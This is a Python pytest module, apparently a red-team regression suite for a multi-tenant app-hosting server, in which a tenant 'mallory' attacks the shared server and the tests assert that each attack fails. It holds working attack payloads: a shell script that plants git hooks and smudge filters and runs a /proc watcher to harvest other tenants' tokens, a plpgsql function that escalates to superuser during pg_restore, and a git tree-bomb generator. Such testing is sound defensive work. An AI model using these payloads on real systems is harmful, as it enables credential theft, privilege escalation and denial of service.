"""Red team 2026-12-02: attacks from angles the first two (redteam-local-2026-11-30, test_attacks_dec1) did not try.

Each test performs the attack as mallory (her agent's MCP calls, code in her own app or build) against the shared
root server of this package and asserts from her side that it failed.

Found broken and fixed here:
    git hooks    InkMCP runs git in the project's mirror as the project's Unix user but outside its sandbox (no
                 cgroup, the host's /proc and /tmp). The mirror is the tenant's own directory, and its path is in
                 the build's environment (PIP_CACHE_DIR = <project>/cache/pip, the mirrors are beside it): mallory's
                 build_command put a `reference-transaction` hook into her mirror, her next deploy's `git fetch`
                 ran it, and from there a daemon with the host's /proc (no hidepid) read alice's `git fetch
                 http://alice:<token>@...` command line while alice deployed. Fix: source._git_base turns hooks
                 off for every git InkMCP runs (core.hooksPath=/dev/null), with the other config-driven commands a
                 tenant can plant in the mirror's config (core.fsmonitor, core.alternateRefsCommand, core.gitProxy);
                 and credentials in an http(s) repo_url reach git as a header in its environment, not in its argv.
    git filters  The same, through `git archive` (how a commit over 16 MiB is checked out): a `filter=evil`
                 attribute in mallory's .gitattributes and `filter.evil.smudge` in her mirror's config ran her
                 command outside her sandbox. Fix: source._export runs git archive against a neutral git dir of
                 InkMCP's (no drivers) with the mirror's objects (GIT_OBJECT_DIRECTORY).
    tree bomb    Nothing counted a commit's files, only their bytes: a few-KB repo of 1,000 x 1,000 x 1,000 empty
                 files passed the byte cap and would be listed into InkMCP's memory and written by root's tar
                 (200,000 files: ~15 s CPU and 200,000 inodes per deploy). Fix: SourcePolicy.max_checkout_entries
                 (100,000), checked while the trees are listed, in batches.
    env pile-up  update_env_vars capped one call (200 variables, 64 KB) but not a project: 12 calls stored 2,400
                 variables in the control database every account shares. Fix: envvars.check_project_totals (1,000
                 variables, 2 MiB stored per project), in the call's transaction.
    restore      (critical) restore_database_backup ran pg_restore as the tenant server's superuser with --role
                 (SET ROLE). A CHECK constraint in mallory's dump called her plpgsql function for every restored
                 row; it ran RESET ROLE (back to the superuser) and ALTER ROLE <her role> SUPERUSER, and she read
                 alice's database. Fix: pgtools.restore logs in as the tenant's own role (DatabaseService.login_of).
    fds          Checking out a commit from memory kept one fd open per directory: 4,900 directories ran a server
                 under systemd's default soft limit (1,024 fds) out of fds. Fix: _CatFile.write_files keeps at
                 most 64 directory fds open.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import resource
import secrets
import subprocess
import time
from collections.abc import Iterator
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import psutil
import psycopg
import psycopg.sql
import pytest

from tests.e2e.coolify import coolify_server
from tests.requirements import require_root
from tests.security.conftest import (
    LAB_START,
    NEEDS_ROOT,
    ROOT,
    deploy,
    deploy_failure,
    deploy_live,
    lab_exec,
    lab_repo,
    session,
)
from tests.support import ServerProc, call, git_commit, git_repo, serving

pytestmark = [pytest.mark.asyncio, pytest.mark.slow, ROOT]  # slow: shares the real root server

ALICE = "dec2-alice"
MALLORY = "dec2-mallory"
ALICE_TOKEN = f"ghp_ALICE_{secrets.token_hex(10)}"
"""alice's git host token, in her repo_url's userinfo (the way the README tells agents to pass a private repo)."""


@contextlib.contextmanager
def slow_git_host(root: Path, delay: float, auth: list[str]) -> Iterator[int]:
    """A dumb-HTTP git host on loopback serving the bare repos under `root`; each info/refs waits `delay` seconds
    (a slow remote: the fetch, and its command line, lasts that long). Authorization headers go to `auth`."""

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, directory=str(root), **kwargs)

        def do_GET(self) -> None:
            auth.append(self.headers.get("Authorization", ""))
            if "/info/refs" in self.path:
                time.sleep(delay)
            super().do_GET()

        def log_message(self, fmt: str, *args: Any) -> None:
            pass

    with serving(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as port:
        yield port


def bare_copy(src: Path, dest: Path) -> Path:
    subprocess.run(["git", "clone", "-q", "--bare", str(src), str(dest)], check=True)
    subprocess.run(["git", "-C", str(dest), "update-server-info"], check=True)
    return dest


# mallory's build step: find her project's mirrors beside the build caches and plant a hook in each. The hook (run
# by InkMCP's next `git fetch` into the mirror) notes where it runs and starts a watcher that reads every command
# line in /proc for a minute, keeping those with an `@` (URL userinfo) in them. Since redteam4 #7 (92bd004) the
# mirrors are out of her sandbox's reach (an empty tmpfs, mode 000, over them): the step notes whether it could
# plant ("$report/planted") and leaves its hook and smudge scripts in $report, and the tests plant them as root
# (`plant_as_root`), so that InkMCP's git is still shown to ignore what a mirror holds.
PLANT = r'''
set -e
report="$HOME/hook-report"
mkdir -p "$report"
mirrors="$(dirname "$(dirname "$PIP_CACHE_DIR")")/mirrors"
echo "$mirrors" > "$report/mirrors"
cat > "$report/watch.py" <<'EOF'
import os, sys, time
report = sys.argv[1]
seen, others = set(), set()
end = time.time() + 60
while time.time() < end and not os.path.exists(os.path.join(report, "stop")):
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            st = os.stat(f"/proc/{pid}")
            if st.st_uid != os.getuid():
                others.add(pid)
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "@" in cmd and cmd not in seen:
            seen.add(cmd)
            with open(os.path.join(report, "cmdlines"), "a") as f:
                f.write(cmd + "\n")
    with open(os.path.join(report, "others"), "w") as f:
        f.write(str(len(others)))
    time.sleep(0.01)
EOF
cat > "$report/smudge.sh" <<EOF
{ id -u; cat /proc/self/cgroup; grep ' /proc ' /proc/self/mountinfo; } > "$report/smudge.txt" 2>&1
exec cat
EOF
cat > "$report/hook" <<EOF
#!/bin/sh
cat > /dev/null
mkdir "$report/ran" 2>/dev/null || exit 0
{ id -u; cat /proc/self/cgroup; grep ' /proc ' /proc/self/mountinfo; } > "$report/hook.txt" 2>&1
setsid python3 "$report/watch.py" "$report" < /dev/null > /dev/null 2>&1 &
exit 0
EOF
chmod 755 "$report/hook"
if (
  for m in "$mirrors"/*; do
    git config --file "$m/config" filter.evil.smudge "sh $report/smudge.sh"
    mkdir -p "$m/hooks"
    cp "$report/hook" "$m/hooks/reference-transaction"
  done
) 2>/dev/null; then echo planted > "$report/planted"; else echo unreachable > "$report/planted"; fi
'''

READ_PLANT = r'''
import os
report = os.path.join(os.environ["HOME"], "hook-report")
result = {"report": report, "mirrors": open(os.path.join(report, "mirrors")).read().strip(),
          "planted": open(os.path.join(report, "planted")).read().strip()}
'''


def plant_as_root(server: ServerProc, lab_url: str, *, hook: bool = False, smudge: bool = False) -> None:
    """What mallory's build could do before 92bd004, done by the test as root: her hook into each of her mirrors'
    hooks dir, or her smudge command into their config. Her own attempt must have failed (the mirrors are hidden)."""
    seen = lab_exec(server, lab_url, READ_PLANT)
    assert seen["planted"] == "unreachable", f"mallory's build reached her mirrors: {seen}"
    report, mirrors = Path(seen["report"]), [m for m in Path(seen["mirrors"]).iterdir() if (m / "config").exists()]
    assert mirrors and (report / "hook").exists(), seen
    for m in mirrors:
        if smudge:
            subprocess.run(["git", "config", "--file", str(m / "config"), "filter.evil.smudge",
                            f"sh {report}/smudge.sh"], check=True)
        if hook:
            (m / "hooks").mkdir(exist_ok=True)
            (m / "hooks" / "reference-transaction").write_bytes((report / "hook").read_bytes())
            (m / "hooks" / "reference-transaction").chmod(0o755)


READ_REPORT = r'''
import os
report = os.path.join(os.environ["HOME"], "hook-report")
def read(name):
    with open(os.path.join(report, name)) as f:
        return f.read()
result = {name: attempt(read, name) for name in ("mirrors", "hook.txt", "cmdlines", "others", "smudge.txt")}
result["big"] = attempt(lambda: os.path.getsize("big.bin"))  # in the app's dir: the checkout went through
open(os.path.join(report, "stop"), "w").close()
'''


@pytest.fixture(scope="module")
async def labs(server: ServerProc, repos: Path) -> dict[str, Any]:
    """mallory's lab, whose build plants the hooks (it has run once: her mirror exists and holds them)."""
    # .gitattributes names her filter driver; big.bin (17 MiB of zeros) puts the commit over the 16 MiB that are
    # checked out from memory, so every deploy exports it with `git archive`
    repo = lab_repo(repos, "dec2-mallory", {"plant.sh": PLANT, ".gitattributes": "*.txt filter=evil\n",
                                            "notes.txt": "mallory notes\n", "big.bin": "\0" * (17 << 20)})
    async with session(server, "mallory") as m:
        lab = await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
                                build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
    return {"mallory": lab, "mallory_repo": repo}


async def test_git_hooks_in_the_tenants_mirror_never_run(server: ServerProc, repos: Path,
                                                         labs: dict[str, Any]) -> None:
    """mallory's build planted a reference-transaction hook in her own mirror; she pushes a commit and redeploys
    (InkMCP fetches into the mirror), then alice deploys a private repo with a token in its URL. The hook must not
    run: before the fix it did, outside mallory's sandbox, and its watcher read alice's token from /proc."""
    repo = labs["mallory_repo"]
    plant_as_root(server, labs["mallory"]["url"], hook=True)
    git_commit(repo, {"again.txt": "redeploy\n"})
    async with session(server, "mallory") as m:
        await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
                          build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
    hosted = repos / "dec2-hosted"
    hosted.mkdir(exist_ok=True)
    bare = bare_copy(git_repo(repos / "dec2-alice-src", {"app.py": "print('alice')\n"}), hosted / "alice.git")
    subprocess.run(["chmod", "-R", "go+rX", str(hosted)], check=True)
    auth: list[str] = []
    with slow_git_host(hosted, delay=2.0, auth=auth) as port:
        url = f"http://alice:{ALICE_TOKEN}@127.0.0.1:{port}/{bare.name}"
        async with session(server, "alice") as a:
            dep = await deploy(a, repo_url=url, project_name=ALICE, service_type="backend",
                               start_command="python3 -c 'import time; time.sleep(3600)'")
    assert dep["status"] == "live", dep
    # alice's token still reaches her git host (as a header, from git's environment instead of its command line)
    expected = "Basic " + base64.b64encode(f"alice:{ALICE_TOKEN}".encode()).decode()
    assert auth and set(auth) == {expected}, auth
    seen = lab_exec(server, labs["mallory"]["url"], READ_REPORT)
    assert seen["mirrors"][0] == "ok", seen  # the plant step ran and named the mirrors
    assert ALICE_TOKEN not in str(seen), f"mallory read alice's token: {seen['cmdlines']}"
    assert seen["hook.txt"][0] == "ENOENT", f"mallory's hook ran in InkMCP's git fetch: {seen}"


async def test_filter_drivers_in_the_tenants_mirror_never_run(server: ServerProc, labs: dict[str, Any]) -> None:
    """mallory's build set `filter.evil.smudge` in her mirror's config, and her .gitattributes applies it to *.txt;
    she redeploys a commit over 16 MiB (checked out with `git archive`, which applies filter drivers). Her smudge
    command must not run: before the fix it did, as her user but outside her sandbox (InkMCP's cgroup, host /proc)."""
    repo = labs["mallory_repo"]
    plant_as_root(server, labs["mallory"]["url"], smudge=True)
    git_commit(repo, {"notes.txt": "mallory notes v2\n"})
    async with session(server, "mallory") as m:
        await deploy_live(m, repo_url=str(repo), project_name=MALLORY, start_command=LAB_START,
                          build_command="sh plant.sh", mode="persistent", env_vars={"LAB_OWNER": "mallory"})
    seen = lab_exec(server, labs["mallory"]["url"], READ_REPORT)
    assert seen["big"] == ["ok", 17 << 20], seen  # the commit was checked out (through git archive)
    assert seen["smudge.txt"][0] == "ENOENT", f"mallory's filter ran in InkMCP's git archive: {seen['smudge.txt']}"


def tree_bomb(path: Path, fanout: int, depth: int) -> Path:
    """A repo whose commit holds fanout**depth empty files in a few KB: every level is one tree naming the level below
    `fanout` times (git stores each tree once), plus app.py."""
    path.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)

    def git(*args: str, stdin: str = "") -> str:
        return subprocess.run(["git", "-C", str(path), *args], input=stdin, capture_output=True, text=True,
                              check=True).stdout.strip()

    empty = git("hash-object", "-w", "--stdin")
    app = git("hash-object", "-w", "--stdin", stdin="print('bomb')\n")
    node = git("mktree", stdin="".join(f"100644 blob {empty}\tf{i}\n" for i in range(fanout)))
    for _ in range(depth - 1):
        node = git("mktree", stdin="".join(f"040000 tree {node}\td{i}\n" for i in range(fanout)))
    top = git("mktree", stdin=f"100644 blob {app}\tapp.py\n040000 tree {node}\tbomb\n")
    commit = git("-c", "user.email=t@example.com", "-c", "user.name=t", "commit-tree", top, "-m", "bomb")
    git("update-ref", "refs/heads/main", commit)
    subprocess.run(["chmod", "-R", "go+rX", str(path)], check=True)
    return path


async def test_a_tree_bomb_is_refused_before_it_is_listed_or_written(server: ServerProc, repos: Path) -> None:
    """mallory deploys a repo of a few KB whose commit holds 1,000 x 1,000 x 1,000 empty files (one tree per level,
    named 1,000 times by the level above). The byte cap sees 0 bytes. Before the fix nothing counted files: InkMCP
    listed every path into its memory (`cat-file` levels, or `ls-tree -r` into one string), and root's tar wrote
    them; 200,000 files alone cost ~15 s of CPU and 200,000 inodes per deploy (measured on the source functions).
    Now mallory's deployment fails within seconds naming the file cap, InkMCP's memory stays flat and /healthz
    keeps answering."""
    assert server.proc is not None
    repo = tree_bomb(repos / "dec2-bomb", fanout=1000, depth=3)
    proc = psutil.Process(server.proc.pid)
    rss0 = proc.memory_info().rss
    health: list[float] = []

    async def probe() -> None:
        async with httpx.AsyncClient(timeout=10) as client:
            while True:
                t = time.monotonic()
                r = await client.get(f"http://127.0.0.1:{server.port}/healthz")
                assert r.status_code == 200
                health.append(time.monotonic() - t)
                await asyncio.sleep(0.2)

    prober = asyncio.create_task(probe())
    t0 = time.monotonic()
    try:
        async with session(server, "mallory") as m:
            text = await deploy_failure(m, repo_url=str(repo), project_name="dec2-bomb", service_type="backend",
                                        start_command="python3 app.py")
    finally:
        prober.cancel()
    elapsed = time.monotonic() - t0
    assert "more than 100,000 files and directories" in text and "repo_url" in text, text
    assert elapsed < 60, f"the refusal took {elapsed:.0f} s"
    grew = proc.memory_info().rss - rss0
    assert grew < 150 << 20, f"InkMCP grew by {grew >> 20} MiB while refusing the tree bomb"
    assert health and max(health) < 2.5, health


async def test_env_vars_cannot_pile_up_in_the_shared_control_database(server: ServerProc) -> None:
    """The per-call caps (200 variables, 64 KB) held, but nothing bounded a project's total: mallory stored 200 new
    variables per update_env_vars call, 12 calls in a row all accepted (2,400 variables), each call 64 KB more of the
    control database every account shares. Now the call that would pass 1,000 variables in the project is refused,
    saying what to do, and changes nothing; the project keeps what it had."""
    value = "v" * 250
    async with session(server, "mallory") as m:
        await call(m, "ensure_project", name="dec2-envfill")
        outcomes = []
        for n in range(12):
            result = await m.call_tool("update_env_vars", {
                "project_name": "dec2-envfill", "env_vars": {f"FILL_{n}_{i}": value for i in range(200)}})
            text = " ".join(getattr(c, "text", "") for c in result.content)
            outcomes.append(("refused", text) if result.is_error else ("ok", ""))
            if result.is_error:
                break
        env = await call(m, "list_env_vars", project_name="dec2-envfill")
    assert [o for o, _ in outcomes] == ["ok"] * 5 + ["refused"], outcomes
    said = outcomes[-1][1]
    assert "at most 1,000 variables" in said and "unset" in said, said
    assert len(env["env"]) == 1000 and "FILL_5_0" not in env["env"], len(env["env"])


async def test_deploy_app_env_vars_count_against_the_project_cap(server: ServerProc, repos: Path) -> None:
    """The same pile-up through deploy_app: its env_vars are written with the deployment (one statement, not
    update_env_vars), and passed the project cap. mallory fills a project to 1,000 variables with update_env_vars,
    then deploys with one variable more: refused with the cap's message, and nothing of the call is kept (no
    service, no deployment, the 1,000 variables unchanged). A deploy whose env_vars replace the service's own
    values in place (same keys) stays within the cap and goes through."""
    repo = git_repo(repos / "dec2-envdeploy", {"app.py": "print('hi')\n"})
    value = "v" * 250
    async with session(server, "mallory") as m:
        await call(m, "ensure_project", name="dec2-envdeploy")
        for n in range(4):
            await call(m, "update_env_vars", project_name="dec2-envdeploy",
                       env_vars={f"FILL_{n}_{i}": value for i in range(200)})
        await call(m, "deploy_app", repo_url=str(repo), project_name="dec2-envdeploy", service_name="worker",
                   service_type="backend", start_command="python3 app.py",
                   env_vars={f"OWN_{i}": "x" for i in range(200)})
        result = await m.call_tool("deploy_app", {
            "repo_url": str(repo), "project_name": "dec2-envdeploy", "service_name": "web", "service_type": "backend",
            "start_command": "python3 app.py", "env_vars": {"ONE_MORE": "x"}})
        said = " ".join(getattr(c, "text", "") for c in result.content)
        services = await call(m, "list_services", project_name="dec2-envdeploy")
        env = await call(m, "list_env_vars", project_name="dec2-envdeploy")
        again = await m.call_tool("deploy_app", {
            "repo_url": str(repo), "project_name": "dec2-envdeploy", "service_name": "worker",
            "service_type": "backend", "start_command": "python3 app.py",
            "env_vars": {f"OWN_{i}": "y" for i in range(200)}})
    assert result.is_error, said
    assert "at most 1,000 variables" in said and "unset" in said, said
    names = [svc["name"] for svc in services["services"]]
    assert names == ["worker"], names  # the refused call made no service "web"
    assert len(env["env"]) == 800 and "ONE_MORE" not in str(env), len(env["env"])
    assert not again.is_error, " ".join(getattr(c, "text", "") for c in again.content)


# mallory's database, made to escalate when a superuser session restores it: a CHECK constraint whose function
# resets the role to the session's (pg_restore --role only issues SET ROLE after the superuser connects) and makes
# her role a superuser. Run now, by her own session, it changes nothing (the error is swallowed).
ESCALATE = """
CREATE FUNCTION dec2_check(v int) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN
    RESET ROLE;
    EXECUTE format('ALTER ROLE %I SUPERUSER', {role});
  EXCEPTION WHEN others THEN NULL;
  END;
  RETURN true;
END $f$;
CREATE TABLE dec2_rows (v int CHECK (dec2_check(v)));
INSERT INTO dec2_rows VALUES (1);
"""


def pg_connect(creds: dict[str, Any], **override: Any) -> psycopg.Connection[Any]:
    args = {"host": creds["host"], "port": creds["port"], "user": creds["user"], "password": creds["password"],
            "dbname": creds["database"], "connect_timeout": 5, "autocommit": True, **override}
    return psycopg.connect(**args)


async def test_restoring_a_backup_never_runs_tenant_code_as_the_superuser(server: ServerProc) -> None:
    """mallory's database has a CHECK constraint whose plpgsql function runs RESET ROLE and ALTER ROLE ... SUPERUSER.
    She dumps it (database_backups create=true) and restores it (restore_database_backup): pg_restore connects as
    the tenant server's superuser and only SETs ROLE to hers, so the constraint, checked on every restored row, ran
    her function, which reset the role to the superuser's. With a superuser role she then reads alice's database.
    Now her role stays an ordinary one and alice's database stays closed to her."""
    # accounts of their own: the shared alice's and mallory's database counts are other modules' (limit 4)
    account, victim = "dec2-mallory-pg", "dec2-alice-pg"
    for name in (account, victim):
        if name not in server.keys:
            server.create_key(name)
    secret = f"ALICE_ROW_{secrets.token_hex(6)}"
    async with session(server, victim) as a:
        await call(a, "ensure_project", name="dec2-alice-db")
        await call(a, "provision_database", project_name="dec2-alice-db")
        alice = await call(a, "get_database_credentials", project_name="dec2-alice-db")
    with pg_connect(alice) as conn:
        conn.execute("CREATE TABLE IF NOT EXISTS private (secret text)")
        conn.execute("INSERT INTO private VALUES (%s)", (secret,))
    async with session(server, account) as m:
        await call(m, "ensure_project", name="dec2-pgroot")
        await call(m, "provision_database", project_name="dec2-pgroot")
        mine = await call(m, "get_database_credentials", project_name="dec2-pgroot")
        with pg_connect(mine) as conn:
            conn.execute(ESCALATE.replace("{role}", psycopg.sql.quote(mine["user"])))
            assert conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user").fetchone() == (False,)
        backups = await call(m, "database_backups", project_name="dec2-pgroot", create=True)
        backup_id = backups["backups"][0]["id"]
        restore = await m.call_tool("restore_database_backup", {"project_name": "dec2-pgroot", "backup_id": backup_id,
                                                                "confirm": "dec2-pgroot"})
    said = " ".join(getattr(c, "text", "") for c in restore.content)
    with pg_connect(mine) as conn:
        superuser = conn.execute("SELECT rolsuper FROM pg_roles WHERE rolname = current_user").fetchone()
        try:
            with pg_connect(mine, dbname=alice["database"]) as theirs:
                stolen = theirs.execute("SELECT secret FROM private").fetchall()
        except psycopg.Error as e:
            stolen = [("refused", str(e).strip().splitlines()[0])]
    assert superuser == (False,), f"mallory's role became a superuser by restoring her backup ({said[:300]})"
    assert not restore.is_error, said  # the restore itself still works, with her rights
    assert secret not in str(stolen), f"mallory read alice's database: {stolen}"


async def test_racing_another_account_for_a_project_name_gives_one_owner(server: ServerProc) -> None:
    """Held: alice and mallory each call ensure_project for the same new name 25 times at once (50 concurrent calls
    over two sessions). One account owns it; every call of the other is told the name is taken (with a free
    suggestion), none gets a bare server error, and only the owner lists it."""
    name = f"dec2-race-{secrets.token_hex(3)}"

    async def burst(account: str) -> list[tuple[bool, str]]:
        async with session(server, account) as s:
            results = await asyncio.gather(*(s.call_tool("ensure_project", {"name": name}) for _ in range(25)))
            listed = [p["name"] for p in (await call(s, "list_projects"))["projects"]]
        return [(r.is_error, " ".join(getattr(c, "text", "") for c in r.content)) for r in results] + \
            [(False, f"LISTED {name in listed}")]

    alice, mallory = await asyncio.gather(burst("alice"), burst("mallory"))
    owner, other = (alice, mallory) if not alice[0][0] else (mallory, alice)
    assert all(not err for err, _ in owner[:-1]), owner
    assert owner[-1][1] == "LISTED True" and other[-1][1] == "LISTED False", (owner[-1], other[-1])
    for err, text in other[:-1]:
        assert err and f"project name {name!r} is taken; try" in text, text


def many_dirs(path: Path, count: int) -> Path:
    """A repo of `count` directories with one small file each, plus app.py (fast-import: seconds, not minutes)."""
    path.mkdir()
    subprocess.run(["git", "init", "-q", "-b", "main", str(path)], check=True)
    app = "import time\nwhile True: time.sleep(60)"
    stream = ["blob", "mark :1", "data 2", "x", "", "commit refs/heads/main", "committer t <t@example.com> 0 +0000",
              "data 4", "dirs", "M 100644 inline app.py", f"data {len(app)}", app]
    stream += [f"M 100644 :1 d{i}/f" for i in range(count)] + [""]
    subprocess.run(["git", "-C", str(path), "fast-import", "--quiet"], input="\n".join(stream) + "\n", text=True,
                   check=True)
    subprocess.run(["chmod", "-R", "go+rX", str(path)], check=True)
    return path


async def test_a_repo_of_many_directories_never_runs_the_server_out_of_fds(repos: Path) -> None:
    """mallory deploys a commit of 4,900 directories with one file each (under the 5,000 entries and 16 MiB that are
    checked out from memory, as InkMCP does to plan a deploy for a provider that builds elsewhere: Coolify, the
    production one). InkMCP kept one fd open per directory while writing them: under systemd's default soft limit of
    1,024 fds (set on this server), the server ran out of fds, for every account's connections at that moment, and
    the deploy failed with a bare "[Errno 24] Too many open files". Now it goes live and the server keeps answering."""
    require_root(NEEDS_ROOT)
    with coolify_server("inkmcp-sec-fds-", ("mallory",), INKMCP_ALLOW_LOCAL_SOURCES="1") as srv:
        assert srv.proc is not None
        hard = resource.prlimit(srv.proc.pid, resource.RLIMIT_NOFILE)[1]
        resource.prlimit(srv.proc.pid, resource.RLIMIT_NOFILE, (1024, hard))  # systemd's default for a service
        repo = many_dirs(repos / "dec2-dirs", 4900)
        async with session(srv, "mallory") as m:
            dep = await deploy(m, repo_url=str(repo), project_name="dec2-dirs", service_type="backend",
                               start_command="python3 app.py", mode="persistent")
        assert "Too many open files" not in str(dep) and "Too many open files" not in srv.log(), dep
        assert dep["status"] == "live", dep
        r = httpx.get(f"http://127.0.0.1:{srv.port}/healthz", timeout=10)
        assert r.status_code == 200, r.text
